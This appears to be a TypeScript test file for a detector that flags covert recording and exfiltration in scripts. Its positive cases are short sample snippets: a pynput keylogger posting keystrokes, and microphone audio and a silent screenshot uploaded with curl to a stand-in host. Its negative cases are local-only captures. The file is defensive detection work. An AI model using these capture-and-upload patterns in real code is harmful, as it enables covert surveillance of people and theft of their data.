import { ruleCases } from '../testing/cases.ts';
import { recording } from './read-secrets.ts';

ruleCases(recording, {
  hits: [
    {
      name: 'keys',
      path: 'a.py',
      text: 'from pynput import keyboard\nrequests.post("https://a.test", data=typed)\n',
    },
    {
      name: 'a microphone whose sound is sent',
      path: 'a.sh',
      text: 'ffmpeg -f pulse -i default o.ogg\ncurl -F "p=@$o" https://a.test/\n',
    },
    {
      name: 'the screen',
      path: 'a.sh',
      text: 'import -silent -window root s.jpg\ncurl -F "p=@$s" https://a.test/\n',
    },
  ],
  misses: [
    {
      name: 'a picture that a person opens',
      path: 'a.sh',
      text: 'screencapture -x a.png\nopen a.png\n',
    },
    {
      name: 'a recording that stays here',
      path: 'a.sh',
      text: 'ffmpeg -f pulse -i default o.ogg\nwhisper o.ogg\n',
    },
    {
      name: 'a film that is converted and sent',
      path: 'a.sh',
      text: 'ffmpeg -i talk.mp4 talk.wav\ncurl -F "p=@$o" https://a.test/\n',
    },
  ],
});
